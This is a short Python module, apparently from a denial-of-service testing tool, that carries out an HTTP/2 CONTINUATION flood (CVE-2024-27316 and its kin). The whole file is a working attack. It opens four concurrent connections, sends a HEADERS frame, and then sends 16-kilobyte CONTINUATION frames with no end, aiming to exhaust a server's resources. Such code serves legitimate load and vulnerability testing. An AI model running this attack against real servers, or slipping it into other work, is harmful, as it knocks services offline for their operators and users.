"""A header that goes on in CONTINUATION frames without end (CVE-2024-27316 and its kin)."""

from wire.http2 import CONTINUATION, HEADERS, frame, http2, literal


async def attack(target):
    field = literal(b"x", b"y" * 16000)

    async def lane(number):
        async with http2(target, target.source(number)) as it:
            if it:
                await it.send(frame(HEADERS, 0, 1, field))
            while it and target.goes_on():
                await it.send(frame(CONTINUATION, 0, 1, field) * 4)

    await target.lanes(4, lane)
